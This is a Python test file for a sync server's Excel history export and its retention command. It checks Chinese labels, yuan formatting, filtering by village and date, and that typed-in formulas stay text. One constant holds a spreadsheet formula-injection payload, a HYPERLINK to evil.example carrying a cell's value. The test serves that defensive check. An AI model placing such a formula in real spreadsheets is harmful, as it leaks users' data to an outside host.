"""``county-server export --history`` and ``history-retention``: the record history in Excel, readable
(Chinese labels, choices by label, yuan) and safe (a formula typed on a laptop stays text)."""

from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sync.ids import uuid7
from sync.protocol import Change
from sync.server.cli import main
from sync.server.embedded import EmbeddedServer

from .conftest import V1, V2, Laptop, enroll_laptop, household_fields

INJECTION = '=HYPERLINK("http://evil.example/?"&C2,"点此核对")'


def test_history_export_is_readable_and_safe(server: EmbeddedServer, laptop: Laptop, tmp_path: Path) -> None:
    hid, iid = uuid7(), uuid7()
    laptop.push(
        [
            Change("household", hid, V1, fields=household_fields(household_no="0012", head_name="王五",
                                                                 category="ordinary"), user="李会计"),
            Change("income", iid, V1, fields={"household_id": hid, "year": 2024, "source": "business",
                                               "amount_fen": 1_200_000}, user="李会计"),
        ]
    )  # fmt: skip
    version = laptop.pull_all()[0][iid]["versions"]["amount_fen"]
    laptop.push(
        [
            Change("income", iid, V1, fields={"amount_fen": 3_500_000, "note": INJECTION},
                   base={"amount_fen": version}, base_seq=version, user="李会计"),
        ]
    )  # fmt: skip
    west = enroll_laptop(server, V2, "west")
    west.push([west.change("household", uuid7(), household_fields())])

    out = tmp_path / "history.xlsx"
    assert main(["--db", server.store.url, "export", str(out), "--history", "--village", V1]) == 0
    (sheet,) = load_workbook(out).worksheets
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert (
        header[:4] == ("服务器时间", "笔记本时间", "村代码", "村名") and "原值" in header and "新值" in header
    )
    by = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert {r["村代码"] for r in by} == {V1}  # the other village is left out
    amount = [r for r in by if r["字段"] == "金额（元）"]
    assert [(r["原值"], r["新值"]) for r in amount] == [("—", "12,000.00"), ("12,000.00", "35,000.00")]
    assert all(r["表单"] == "家庭收入" and r["记录"] == "0012 王五" for r in amount)
    assert (
        amount[1]["方式"] == "笔记本同步"
        and amount[1]["操作人"] == "李会计"
        and amount[1]["设备"] == "laptop-a"
    )
    category = next(r for r in by if r["字段"] == "家庭类别")
    assert category["新值"] == "一般户"  # a choice by its label
    note = next(r for r in by if r["新值"] == INJECTION)
    cells = [c for row in sheet.iter_rows() for c in row if c.value == INJECTION]
    assert note and cells and all(c.data_type == "s" for c in cells)

    # --since leaves out what came before that day; a bad date is refused with a message.
    later = tmp_path / "later.xlsx"
    tomorrow = (date.today() + timedelta(days=2)).isoformat()
    assert main(["--db", server.store.url, "export", str(later), "--history", "--since", tomorrow]) == 0
    assert len(list(load_workbook(later).worksheets[0].iter_rows())) == 1
    with pytest.raises(SystemExit) as refused:
        main(["--db", server.store.url, "export", str(later), "--history", "--since", "2024-13-01"])
    assert refused.value.code == 2


def test_history_retention_command_only_lengthens(
    server: EmbeddedServer, capsys: pytest.CaptureFixture[str]
) -> None:
    db = server.store.url
    assert main(["--db", db, "history-retention"]) == 0
    assert "3650 days" in capsys.readouterr().out
    assert main(["--db", db, "history-retention", "4000"]) == 0
    assert main(["--db", db, "history-retention", "3000"]) == 2
    assert "only be lengthened" in capsys.readouterr().err
    assert main(["--db", db, "history-retention"]) == 0
    assert "4000 days" in capsys.readouterr().out
